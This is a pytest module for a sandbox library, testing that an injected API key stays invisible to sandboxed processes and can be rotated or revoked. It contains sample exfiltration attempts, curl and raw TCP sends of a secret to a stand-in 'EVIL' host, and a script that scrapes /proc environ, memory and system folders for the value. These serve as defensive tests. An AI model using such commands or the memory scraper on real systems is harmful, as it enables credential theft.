"""S-01: a secret's value is nowhere that the sandbox, or whoever looks at it, can see. S-03: it can be changed and
taken away."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from hostile_kit import host_pids, runtime
from net_kit import EVIL, GOOD, Rung, attempt, decisions, files_with, get, tcp

from netkit import Internet
from sloplet import Network, Sandbox, Secret
from sloplet.errors import SlopletError

EACH_MAPPING = True

#: Built at run time: no file, no argument of any process and no constant of the tests holds it whole.
VALUE = "-".join(("value", "canary", f"{os.getpid():x}", "93c1b7"))
OTHER = VALUE.replace("canary", "second")
NAME = "API_KEY"
CURL = ["curl", "-fsS", "-m", "15"]
SEND = f'curl -fsS -m 15 -H "Authorization: Bearer ${NAME}" https://{GOOD}/used'

#: Looks through all that one can see inside for a text, given in two halves so that it never is in there itself.
SEARCH = """
import os, re, sys
first, second = sys.argv[1].encode(), sys.argv[2].encode()
def holds(data):
    return any(data.startswith(second, found.end()) for found in re.finditer(re.escape(first), data))
def look(path):
    try:
        with open(path, "rb") as file:
            return holds(file.read(1 << 23))
    except OSError:
        return False
found, looked = [], 0
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "comm", "maps", "status"):
        looked += 1
        if look(f"/proc/{pid}/{name}"):
            found.append(f"/proc/{pid}/{name}")
    try:
        areas = re.findall(r"^(\\w+)-(\\w+) rw.*$", open(f"/proc/{pid}/maps").read(), re.M)
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for start, end in areas:
        try:
            memory.seek(int(start, 16))
            if holds(memory.read(min(int(end, 16) - int(start, 16), 1 << 23))):
                found.append(f"/proc/{pid}/mem")
                break
        except (OSError, OverflowError):
            continue
ours = (sys.prefix, sys.base_prefix)
for top in ("/workspace", "/tmp", "/etc", "/run", "/home", "/root", "/var", "/usr/local/share"):
    for folder, below, names in os.walk(top):
        below[:] = [name for name in below if not os.path.join(folder, name).startswith(ours)]
        for name in names:
            path = os.path.join(folder, name)
            if os.path.isfile(path):
                looked += 1
                if look(path):
                    found.append(path)
print(looked, *found)
"""


def searched(box: Sandbox, text: str, user: str) -> list[str]:
    half = len(text) // 2
    result = box.run(["python3", "-c", SEARCH, text[:half], text[half:]], user=user, timeout=60)
    looked, *found = result.stdout.split()
    assert int(looked) > 50, result.stderr
    return found


@pytest.fixture(scope="module")
def kept_box(rung: Rung, whole_internet: Internet) -> Iterator[Sandbox]:
    secrets = {NAME: Secret(VALUE, hosts=[GOOD])}
    with rung.box(network=Network(allow=[GOOD, EVIL]), secrets=secrets) as made:
        yield made


@pytest.fixture
def box(kept_box: Sandbox, net: Internet) -> Sandbox:
    kept_box.network.set(Network(allow=[GOOD, EVIL, f"{EVIL}:7"]))
    kept_box.network.set_secret(NAME, VALUE)
    return kept_box


def sent(net: Internet) -> list[str]:
    """What servers got as authorization."""
    return [dict(event["headers"]).get("Authorization", "") for event in net.seen("http")]


def placeholder(box: Sandbox) -> str:
    return box.run(f"printf %s ${NAME}").stdout


# -- S-01 ----------------------------------------------------------------------------------------------------


def test_s01_it_is_sent_and_is_not_here(rung: Rung, box: Sandbox, net: Internet) -> None:
    """The server gets it; the sandbox has a placeholder, which the same search does find."""
    holder = box.spawn("sleep 1000")
    try:
        result = box.run(SEND)
        assert result.ok, f"{result.stderr} {result.denied}"
        assert sent(net) == [f"Bearer {VALUE}"]
        mark = placeholder(box)
        assert mark
        assert mark != VALUE
        for user in ("agent", "root") if rung.can.users else ("agent",):
            assert searched(box, VALUE, user) == []
            control = searched(box, mark, user)
            assert any(path.endswith("/environ") for path in control), "commands have the placeholder"
    finally:
        holder.kill()


def texts_about(box: Sandbox) -> Iterator[str]:
    """Everything the library says about a sandbox."""
    yield repr(box)
    yield repr(box.spec)
    yield json.dumps(box.spec.to_dict(), default=str)
    yield repr(box.info())
    yield repr(Sandbox.list())
    yield repr(box.guarantees())
    yield repr(box.metrics())
    yield repr(box.processes())
    yield repr(box.network.policy())
    yield repr(box.network.log())
    yield repr(Secret(VALUE, hosts=[GOOD]))
    yield repr(runtime().__dict__)


def test_s01_what_is_said_about_it(box: Sandbox, net: Internet) -> None:
    errors = []
    for refused in (SEND.replace(GOOD, EVIL), SEND.replace("https", "http"), SEND.replace(GOOD, "no.example")):
        result = box.run(refused)
        assert not result.ok
        errors += [repr(result), result.stdout, result.stderr, *result.denied, result.describe()]
    for nonsense in ({"NO_SUCH": VALUE}, {NAME: VALUE + "\n"}, {NAME: VALUE * 10000}):
        for name, value in nonsense.items():
            with pytest.raises(SlopletError) as caught:
                box.network.set_secret(name, value)
            errors.append(repr(caught.value) + str(caught.value) + str(caught.value.hint))
    with pytest.raises(SlopletError) as caught:
        Secret(VALUE, env="X", hosts=[GOOD])
    errors.append(str(caught.value))
    everything = [*texts_about(box), *errors]
    assert [text for text in everything if VALUE in text] == []
    mark = placeholder(box)
    assert any(mark in text for text in everything), "the positive control"
    assert net.heard(VALUE) == []


def _memory_holds(pid: int, wanted: bytes) -> bool | None:
    """Whether a process's memory has that text; None if it may not be looked at."""
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
                area, rights = line.split()[:2]
                start, end = (int(word, 16) for word in area.split("-"))
                if rights.startswith("rw") and end - start <= 2**28 and _area_holds(memory, start, end, wanted):
                    return True
    except OSError:
        return None
    return False


def _area_holds(memory: Any, start: int, end: int, wanted: bytes) -> bool:
    with suppress(OSError, OverflowError):
        for at in range(start, end, 2**22):
            memory.seek(at)
            if wanted in memory.read(min(2**22 + len(wanted), end - at)):
                return True
    return False


def test_s01_from_the_host(box: Sandbox, net: Internet) -> None:
    """Arguments and environment of every process here, the memory of the sandbox's own, and all of SLOPLET_HOME."""
    assert box.run(SEND).ok
    mark = placeholder(box)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("cmdline", "environ"):
            try:
                text = Path(f"/proc/{pid}/{name}").read_bytes()
            except OSError:
                continue
            assert VALUE.encode() not in text, f"/proc/{pid}/{name}"
    found = {pid: _memory_holds(pid, VALUE.encode()) for pid in host_pids(box)}
    assert True not in found.values(), found
    if os.geteuid() == 0:
        sleeper = box.spawn("sleep 1000")
        assert True in {_memory_holds(pid, mark.encode()) for pid in host_pids(box)}, "the positive control"
        sleeper.kill()
    found_in = files_with(runtime().home.path, VALUE.encode(), GOOD.encode())
    assert found_in[0] == []
    assert found_in[1], "the positive control: whom it is for"


def test_s01_only_where_it_belongs(box: Sandbox, net: Internet) -> None:
    """To other hosts, without TLS, in other places of a request, in other protocols: not even the placeholder goes."""
    mark = placeholder(box)
    half = len(mark) // 2
    refused = [
        box.run(SEND.replace(GOOD, EVIL)),
        box.run(SEND.replace("https", "http")),
        box.run([*CURL, f"https://{GOOD}/?key={mark}"]),
        box.run([*CURL, f"http://{EVIL}/{mark}"]),
        box.run([*CURL, "-d", mark, f"http://{EVIL}/"]),
    ]
    for number, result in enumerate(refused):
        assert not result.ok, f"{number}: {result.stdout}"
    chunks = f"{half:x}\r\n{mark[:half]}\r\n{len(mark) - half:x}\r\n{mark[half:]}\r\n0\r\n\r\n"
    pieces = get(EVIL, "/", "POST", "Transfer-Encoding: chunked") + chunks
    for outcome in attempt(
        box,
        tcp(EVIL, 443, (pieces, None), tls=EVIL),
        tcp(EVIL, 80, (pieces, None)),
        tcp(EVIL, 7, ("\x01" + mark, None), wait=5),
        tcp(EVIL, 7, ("\x01" + mark[:half], None), wait=1),
    ).outcomes:
        assert mark not in outcome.data
    assert net.heard(VALUE) == []
    assert net.heard(mark) == []
    assert len([line for line in decisions(box) if line.verdict in ("deny", "cut") and NAME in line.reason]) >= 4
    basic = box.run([*CURL, "-u", f"me:{mark}", f"https://{GOOD}/basic"])  # the positive control, in its other form
    assert basic.ok, basic.stderr
    assert net.heard(mark) == []
    import base64

    assert sent(net)[-1] == "Basic " + base64.b64encode(f"me:{VALUE}".encode()).decode()


# -- S-03 ----------------------------------------------------------------------------------------------------


def test_s03_changed_and_taken_away(box: Sandbox, net: Internet) -> None:
    assert box.run(SEND).ok
    box.network.set_secret(NAME, OTHER)
    assert box.run(SEND).ok
    box.network.set_secret(NAME, None)
    refused = box.run(SEND)
    assert not refused.ok
    assert any(NAME in text for text in refused.denied), refused.denied
    box.network.set_secret(NAME, VALUE)
    assert box.run(SEND).ok
    assert sent(net) == [f"Bearer {value}" for value in (VALUE, OTHER, VALUE)]
    with pytest.raises(SlopletError):
        box.network.set_secret("NEVER_ASKED_FOR", VALUE)


def test_s03_on_an_open_connection(box: Sandbox, net: Internet) -> None:
    """What is taken away is gone for connections that are open, too."""
    program = f"""
import os, ssl, socket, sys
ca = ssl.create_default_context()
line = ca.wrap_socket(socket.create_connection(("{GOOD}", 443)), server_hostname="{GOOD}")
for _ in range(2):
    head = "GET /kept HTTP/1.1\\r\\nHost: {GOOD}\\r\\nAuthorization: " + os.environ["{NAME}"]
    line.sendall(head.encode() + b"\\r\\n\\r\\n")
    data = b""
    try:
        data = line.recv(1000)
    except OSError:
        pass
    print(data[:15], flush=True)
    sys.stdin.readline()
"""
    process = box.spawn(["python3", "-uc", program], stdin=True)
    lines = iter(process)
    assert "200" in next(lines)[1]
    box.network.set_secret(NAME, None)
    process.send("\n")
    assert "200" not in next(lines)[1]
    process.kill()
    assert sent(net) == [VALUE]


def test_s03_after_a_restore(rung: Rung, net: Internet) -> None:
    """Woken, rolled back or forked, the secret is the one that holds now, and one that is gone stays gone."""
    if not rung.can.live_snapshots:
        pytest.skip(f"capability: {rung.label} cannot save processes")
    with rung.box(network=Network(allow=[GOOD]), secrets={NAME: Secret(VALUE, hosts=[GOOD])}) as box:
        before = box.snapshot()
        box.network.set_secret(NAME, OTHER)
        box.pause()
        assert box.run(SEND).ok
        box.rollback(before)
        assert box.run(SEND).ok
        (child,) = box.fork(1)
        try:
            assert child.run(SEND).ok
            box.network.set_secret(NAME, None)
            assert not box.run(SEND).ok
            assert child.run(SEND).ok, "a child is another sandbox"
        finally:
            child.kill()
        assert sent(net) == [f"Bearer {OTHER}"] * 4
        box.rollback(before)
        assert not box.run(SEND).ok
